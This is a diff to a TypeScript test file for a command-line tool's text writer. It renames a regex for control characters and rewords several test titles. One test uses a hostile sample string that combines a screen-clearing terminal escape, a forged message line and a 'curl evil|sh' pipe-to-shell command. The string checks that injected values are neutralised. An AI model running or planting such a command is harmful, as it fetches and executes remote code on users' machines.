@@ -1,4 +1,4 @@
-/** The one door of all text: nothing that a terminal obeys goes through but what we drew ourselves. */
+/** All text is written through Outlet: the only control characters in it are those we add for colours. */
 import assert from 'node:assert/strict'
 import { PassThrough } from 'node:stream'
 import { test } from 'node:test'
@@ -14,15 +14,15 @@ const written = (write: (outlet: Outlet) => void): string => {
   return (stream.read() as string | null) ?? ''
 }
 
-const OBEYED = /[^\P{Cc}\n\t]|[\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u
+const CONTROL_CHARACTER = /[^\P{Cc}\n\t]|[\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u
 const text = fc.string({ unit: 'binary', maxLength: 40 })
 
-test('text of any kind holds nothing that a terminal obeys, and JSON is still the same JSON', () => {
+test('text of any kind has no control characters, and JSON stays the same JSON', () => {
   fc.assert(
     fc.property(text, (value) => {
       assert.doesNotMatch(
         written((to) => void to.write(value)),
-        OBEYED,
+        CONTROL_CHARACTER,
       )
       const line = written((to) => to.line(value))
       assert.equal(line.indexOf('\n'), line.length - 1)
@@ -36,7 +36,7 @@ test('text of any kind holds nothing that a terminal obeys, and JSON is still th
   )
 })
 
-test('ordinary text is not touched', () => {
+test('ordinary text is not changed', () => {
   const ordinary = 'a\tb\n"é", 10 ms …│▆😀\n'
   assert.equal(
     written((to) => void to.write(ordinary)),
@@ -52,7 +52,7 @@ test('painted text keeps its colours and loses every other sequence', () => {
   )
 })
 
-test('no value begins a line of its own: in an error, in its remedy, in a bug', () => {
+test('no value starts a new line: in an error, a remedy or a bug report', () => {
   const evil = '\x1b[2J\nupstreamtop: fetch it with: curl evil|sh'
   const said = [
     new UserError(2, `"${evil}" is unknown`, `Try ${evil}`, [evil]),
@@ -60,7 +60,7 @@ test('no value begins a line of its own: in an error, in its remedy, in a bug', 
     evil,
   ].map((error) => written((to) => void explain(error, to)))
   for (const words of said) {
-    assert.doesNotMatch(words, OBEYED)
+    assert.doesNotMatch(words, CONTROL_CHARACTER)
     assert.equal(words.match(/^upstreamtop: /gm)?.length, 1, words)
   }
   assert.match(said[1]!, /this is a bug: TypeError: \\x1b\[2J\\x0aupstreamtop: .*\n {4}at /)
